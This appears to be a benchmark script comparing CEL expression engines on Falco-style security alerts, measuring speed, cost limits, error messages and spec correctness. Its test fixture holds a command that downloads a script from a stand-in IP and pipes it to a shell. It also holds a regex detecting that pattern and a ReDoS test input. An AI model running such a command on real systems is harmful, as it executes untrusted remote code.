/**
 * Compares the two CEL engines on the expressions Playbooks carry, over a realistic Falco event:
 * compile and evaluate throughput, the kube-soar layer on top of @bufbuild/cel, cost limiting,
 * error messages, and correctness on edge cases of the CEL specification.
 *
 *   node bench/cel-engines.ts            (about a minute; figures vary with machine load)
 *
 * Each throughput figure is the best of three timed rounds after a warm-up.
 */
import { celEnv, isCelError, parse, plan, type CelValue } from "@bufbuild/cel";
import { strings } from "@bufbuild/cel/ext";
import { Environment } from "@marcbachmann/cel-js";
import { createExpressionCompiler, evaluate, evaluateBool, prepareVariables } from "../src/expr/index.ts";

const falcoEvent = {
  uuid: "3f1c2a9e-5b7d-4e8a-9c0f-1d2e3f4a5b6c",
  output: "10:42:17.118823521: Notice A shell was spawned in a container with an attached terminal",
  priority: "Notice",
  rule: "Terminal shell in container",
  time: "2026-11-20T10:42:17.118823521Z",
  source: "syscall",
  hostname: "worker-2",
  tags: ["T1059", "container", "maturity_stable", "mitre_execution", "shell"],
  output_fields: {
    "container.id": "5f2b8c1d9e0a",
    "container.image.repository": "registry.example.com/shop/web",
    "container.name": "web",
    "k8s.ns.name": "prod-shop",
    "k8s.pod.name": "web-6d8f7b9c4-x2k9p",
    "proc.cmdline": "sh -c curl -s http://203.0.113.7/x | sh",
    "proc.name": "bash",
    "proc.tty": 34816,
    "user.name": "root",
    "user.uid": 0,
  },
};

const event = {
  id: "3f1c2a9e-5b7d-4e8a-9c0f-1d2e3f4a5b6c",
  type: "falco.alert",
  source: "falco://worker-2",
  severity: "high",
  data: falcoEvent,
  observables: [
    { kind: "pod", value: "prod-shop/web-6d8f7b9c4-x2k9p" },
    { kind: "image", value: "registry.example.com/shop/web" },
    { kind: "ip", value: "203.0.113.7" },
    { kind: "user", value: "root" },
  ],
};

const expressions: readonly string[] = [
  `event.data.rule == "Terminal shell in container" && event.severity in ["high", "critical"]`,
  `event.data.output_fields["k8s.ns.name"].startsWith("prod-")`,
  `has(event.data.output_fields)`,
  `event.source + "/" + event.data.rule + "/" + event.data.output_fields["k8s.ns.name"] + "/" + event.data.output_fields["k8s.pod.name"]`,
  `event.observables.exists(o, o.kind == "ip" && o.value.startsWith("203.0.113."))`,
  `event.observables.all(o, o.value != "")`,
  `event.observables.map(o, o.value)`,
  `event.data.tags.exists(t, t == "mitre_execution") && event.data.priority in ["Notice", "Warning", "Error", "Critical"]`,
  `event.data.output_fields["user.uid"] == 0 && event.data.output_fields["proc.tty"] > 0`,
  `event.data.output_fields["proc.cmdline"].matches("(curl|wget).*[|] *(sh|bash)")`,
];

/** JSON numbers that are integral become bigint, as both engines expect for CEL `int`. */
function withIntegers(value: unknown): unknown {
  if (typeof value === "number") return Number.isSafeInteger(value) ? BigInt(value) : value;
  if (Array.isArray(value)) return value.map(withIntegers);
  if (typeof value === "object" && value !== null) {
    return Object.fromEntries(Object.entries(value).map(([key, entry]) => [key, withIntegers(entry)]));
  }
  return value;
}

// ---------------------------------------------------------------------------------------------
// The engines, behind one shape: compile a source, evaluate the result.

interface EngineUnderTest {
  readonly name: string;
  compile(source: string): () => unknown;
}

const bufbuildEnv = celEnv({ funcs: strings });
const prepared = prepareVariables({ event });
if (!prepared.ok) throw new Error(prepared.message);
const bufbuildBindings = prepared.value.bindings();

const bufbuild: EngineUnderTest = {
  name: "@bufbuild/cel",
  compile(source) {
    const program = plan(bufbuildEnv, parse(source));
    return () => program(bufbuildBindings);
  },
};

const celJsEnv = new Environment({ homogeneousAggregateLiterals: false }).registerVariable("event", "dyn");
const celJsContext = { event: withIntegers(event) };

const celJs: EngineUnderTest = {
  name: "@marcbachmann/cel-js",
  compile(source) {
    const program: (context: Record<string, unknown>) => unknown = celJsEnv.parse(source);
    return () => program(celJsContext);
  },
};

const kubeSoarCompiler = createExpressionCompiler({ cacheEntries: 1 });
const kubeSoarCached = createExpressionCompiler();

const kubeSoar: EngineUnderTest = {
  name: "kube-soar src/expr",
  compile(source) {
    const compiled = kubeSoarCompiler.compile(source, "trigger");
    if (!compiled.ok) throw new Error(compiled.message);
    return () => evaluate(compiled.program, prepared.value);
  },
};

// ---------------------------------------------------------------------------------------------
// Timing helpers.

function opsPerSecond(run: () => unknown, roundMs = 150): number {
  for (let i = 0; i < 200; i++) run();
  let best = 0;
  for (let round = 0; round < 3; round++) {
    let iterations = 0;
    const start = performance.now();
    let elapsed = 0;
    while (elapsed < roundMs) {
      for (let i = 0; i < 50; i++) run();
      iterations += 50;
      elapsed = performance.now() - start;
    }
    best = Math.max(best, (iterations * 1000) / elapsed);
  }
  return best;
}

function millis(run: () => unknown): number {
  const start = performance.now();
  run();
  return performance.now() - start;
}

function formatOps(ops: number): string {
  return ops >= 1e6 ? `${(ops / 1e6).toFixed(2)} M/s` : `${(ops / 1e3).toFixed(1)} k/s`;
}

function geometricMean(values: readonly number[]): number {
  return Math.exp(values.reduce((sum, value) => sum + Math.log(value), 0) / values.length);
}

function describe(value: unknown): string {
  if (typeof value === "number" && !Number.isFinite(value)) return String(value);
  if (value instanceof Error) return `error: ${value.message.split("\n")[0] ?? ""}`;
  if (isCelError(value)) return `error: ${value.message}`;
  return JSON.stringify(value, (_key, entry: unknown) => (typeof entry === "bigint" ? `${entry.toString()}n` : entry));
}

function attempt(run: () => unknown): unknown {
  try {
    return run();
  } catch (error: unknown) {
    return error instanceof Error ? error : new Error(String(error));
  }
}

// ---------------------------------------------------------------------------------------------
// 1. Throughput.

function throughput(): void {
  console.log("\n== Throughput (ops/s, best of 3) ==");
  const engines = [bufbuild, celJs, kubeSoar];
  const compileRates = new Map<string, number[]>(engines.map((engine) => [engine.name, []]));
  const evaluateRates = new Map<string, number[]>(engines.map((engine) => [engine.name, []]));
  for (const [index, source] of expressions.entries()) {
    console.log(`\n#${index + 1} ${source}`);
    for (const engine of engines) {
      const compile =
        engine === kubeSoar
          ? // A one-entry cache and two alternating sources: every compile is a miss.
            (() => {
              let flip = false;
              return () => {
                flip = !flip;
                return engine.compile(flip ? source : `${source} `);
              };
            })()
          : () => engine.compile(source);
      const compileOps = opsPerSecond(compile, 100);
      const program = engine.compile(source);
      const evaluateOps = opsPerSecond(program);
      compileRates.get(engine.name)?.push(compileOps);
      evaluateRates.get(engine.name)?.push(evaluateOps);
      console.log(
        `  ${engine.name.padEnd(22)} compile ${formatOps(compileOps).padStart(10)}   evaluate ${formatOps(evaluateOps).padStart(10)}   -> ${describe(attempt(program)).slice(0, 60)}`,
      );
    }
  }
  console.log("\nGeometric means over all expressions:");
  for (const engine of engines) {
    console.log(
      `  ${engine.name.padEnd(22)} compile ${formatOps(geometricMean(compileRates.get(engine.name) ?? [1])).padStart(10)}   evaluate ${formatOps(geometricMean(evaluateRates.get(engine.name) ?? [1])).padStart(10)}`,
    );
  }
  const first = expressions[0] ?? "true";
  console.log(
    `  kube-soar compile, cache hit        ${formatOps(opsPerSecond(() => kubeSoarCached.compile(first, "trigger")))}`,
  );
  console.log(
    `  kube-soar prepareVariables(event)   ${formatOps(opsPerSecond(() => prepareVariables({ event })))}  (once per event, shared by all programs)`,
  );
}

// ---------------------------------------------------------------------------------------------
// 2. Cost limiting.

function costLimiting(): void {
  console.log("\n== Cost limiting ==");
  console.log("  @bufbuild/cel: no runtime cost limit, no structural limits (deep nesting overflows the stack).");
  console.log("  @marcbachmann/cel-js: structural parse limits (maxAstNodes, maxDepth, maxListElements, ...),");
  console.log("                        no runtime cost limit.");
  console.log("  kube-soar src/expr: size and nesting limits at compile time, plus a runtime cost budget.");
  const size = 60;
  const numbers = Array.from({ length: size }, (_, i) => i);
  const source = "event.l.map(x, event.l.map(y, event.l.map(z, x + y + z))).size()";
  const nestedBufbuild = plan(bufbuildEnv, parse(source));
  const nestedCelJs: (context: Record<string, unknown>) => unknown = celJsEnv.parse(source);
  const bindings = bindingsOf({ l: numbers });
  console.log(`\n  ${source}   (l has ${size} ints: ${size ** 3} inner steps)`);
  let result: unknown;
  console.log(`  @bufbuild/cel          ${millis(() => (result = nestedBufbuild(bindings))).toFixed(0).padStart(6)} ms -> ${describe(result)}`);
  console.log(
    `  @marcbachmann/cel-js   ${millis(() => (result = attempt(() => nestedCelJs({ event: { l: numbers.map(BigInt) } })))).toFixed(0).padStart(6)} ms -> ${describe(result)}`,
  );
  const compiled = kubeSoarCached.compile(source, "trigger");
  if (!compiled.ok) throw new Error(compiled.message);
  console.log(
    `  kube-soar src/expr     ${millis(() => (result = evaluate(compiled.program, { event: { l: numbers } }))).toFixed(0).padStart(6)} ms -> ${describe(result)}`,
  );

  console.log("\n  Time to spend the default budget (100000 units), worst cases found so far:");
  const big = Array.from({ length: 1000 }, (_, i) => i);
  for (const expensive of [
    "event.l.exists(x, event.l.exists(y, event.l.exists(z, z < 0)))",
    "event.l.exists(x, event.l.exists(y, event.l.exists(z, z.foo)))",
    "event.l.all(x, x in event.l)",
    "event.l.map(x, x).size() > 0",
  ]) {
    const program = kubeSoarCached.compile(expensive, "trigger");
    if (!program.ok) throw new Error(program.message);
    let outcome: unknown;
    const ms = Math.min(
      ...[0, 1, 2].map(() => millis(() => (outcome = evaluateBool(program.program, { event: { l: big } })))),
    );
    console.log(`  ${ms.toFixed(1).padStart(7)} ms  ${expensive} -> ${describe(outcome).slice(0, 70)}`);
  }

  console.log("\n  Regular expressions over attacker-controlled text: 'a' * n + '!' matched against ^(a+)+$");
  const redos = "event.s.matches('^(a+)+$')";
  const redosBufbuild = plan(bufbuildEnv, parse(redos));
  const redosCelJs: (context: Record<string, unknown>) => unknown = celJsEnv.parse(redos);
  for (const n of [16, 20, 24]) {
    const text = `${"a".repeat(n)}!`;
    const textBindings = bindingsOf({ s: text });
    const bufbuildMs = millis(() => redosBufbuild(textBindings));
    const celJsMs = millis(() => redosCelJs({ event: { s: text } }));
    console.log(
      `  n=${String(n).padStart(2)}   @bufbuild/cel (RE2) ${bufbuildMs.toFixed(1).padStart(8)} ms   @marcbachmann/cel-js (RegExp) ${celJsMs.toFixed(1).padStart(8)} ms`,
    );
  }
}

/** CEL bindings for `event` built from plain JSON. */
function bindingsOf(eventValue: Record<string, unknown>): Readonly<Record<string, CelValue>> {
  const converted = prepareVariables({ event: eventValue });
  if (!converted.ok) throw new Error(converted.message);
  return converted.value.bindings();
}

// ---------------------------------------------------------------------------------------------
// 3. Error messages.

function errorMessages(): void {
  console.log("\n== Error messages ==");
  const cases = [
    { label: "undeclared reference", source: `evnt.type == "falco.alert"` },
    { label: "syntax error", source: `event.type == ` },
    { label: "missing map key", source: `event.data.nope == 1` },
    { label: "no matching overload", source: `event.data.rule + 1` },
    { label: "method typo", source: `event.data.rule.lower() == "x"` },
  ];
  for (const { label, source } of cases) {
    console.log(`\n  ${label}: ${source}`);
    const bufbuildOutcome = attempt(() => plan(bufbuildEnv, parse(source))(bufbuildBindings));
    console.log(`    @bufbuild/cel         ${describe(bufbuildOutcome)}`);
    const celJsCheck = attempt(() => celJsEnv.check(source));
    const celJsOutcome = attempt(() => celJs.compile(source)());
    const checkText =
      celJsCheck instanceof Error
        ? describe(celJsCheck)
        : (celJsCheck as { valid: boolean; error?: Error }).valid
          ? "check ok"
          : `check: ${(celJsCheck as { error?: Error }).error?.message.split("\n")[0] ?? ""}`;
    console.log(`    @marcbachmann/cel-js  ${checkText}; run: ${describe(celJsOutcome)}`);
    const compiled = kubeSoarCached.compile(source, "trigger");
    console.log(
      `    kube-soar src/expr    ${compiled.ok ? describe(evaluate(compiled.program, prepared.ok ? prepared.value : {})) : `compile: ${compiled.message}`}`,
    );
  }
}

// ---------------------------------------------------------------------------------------------
// 4. Correctness on edge cases, against the CEL specification.

interface EdgeCase {
  readonly source: string;
  /** The value the specification gives, or "error". */
  readonly expected: unknown;
}

const edgeCases: readonly EdgeCase[] = [
  { source: "dyn(1) == 1u", expected: true },
  { source: "dyn(1) == 1.0", expected: true },
  { source: "has({'a': null}.a)", expected: true },
  { source: "{'a': 1}.b", expected: "error" },
  { source: "[1, 2, 3][3]", expected: "error" },
  { source: "9223372036854775807 + 1", expected: "error" },
  { source: "-9223372036854775808", expected: -9223372036854775808n },
  { source: "1u - 2u", expected: "error" },
  { source: "5 / 0", expected: "error" },
  { source: "5.0 / 0.0", expected: Infinity },
  { source: "7 / -2", expected: -3n },
  { source: "7 % -2", expected: 1n },
  { source: "int(-3.9)", expected: -3n },
  { source: "int('0x10')", expected: "error" },
  { source: "size('héllo')", expected: 5n },
  { source: "size('😀')", expected: 1n },
  { source: "'abc'.startsWith('')", expected: true },
  { source: "[1, 2, 3].exists_one(x, x > 1)", expected: false },
  { source: "size([1, 'a'])", expected: 2n },
  { source: "'\\q'", expected: "error" },
  { source: "timestamp('2024-01-01T00:00:00Z') + duration('90m') == timestamp('2024-01-01T01:30:00Z')", expected: true },
  { source: "'a.b'.matches('^a\\\\.b$')", expected: true },
  { source: "event.data.output_fields['user.uid'] == 0", expected: true },
];

function sameValue(actual: unknown, expected: unknown): boolean {
  if (expected === "error") return actual instanceof Error || isCelError(actual);
  if (typeof actual === "object" && actual !== null && "value" in actual && typeof actual.value === "bigint") {
    return actual.value === expected;
  }
  return Object.is(actual, expected);
}

function edgeCaseCorrectness(): void {
  console.log("\n== Edge cases (expected per the CEL specification) ==");
  const score = new Map<string, number>([
    [bufbuild.name, 0],
    [celJs.name, 0],
  ]);
  for (const { source, expected } of edgeCases) {
    const cells = [bufbuild, celJs].map((engine) => {
      const actual = attempt(() => engine.compile(source)());
      const ok = sameValue(actual, expected);
      if (ok) score.set(engine.name, (score.get(engine.name) ?? 0) + 1);
      return `${ok ? "ok  " : "DIFF"} ${describe(actual).slice(0, 38).padEnd(38)}`;
    });
    console.log(`  ${source.slice(0, 44).padEnd(44)} want ${describe(expected).padEnd(22)} ${cells.join(" | ")}`);
  }
  console.log(
    `\n  Agreement with the specification: @bufbuild/cel ${score.get(bufbuild.name) ?? 0}/${edgeCases.length}, @marcbachmann/cel-js ${score.get(celJs.name) ?? 0}/${edgeCases.length}`,
  );
}

console.log(`CEL engine comparison on Node ${process.version}`);
throughput();
costLimiting();
errorMessages();
edgeCaseCorrectness();
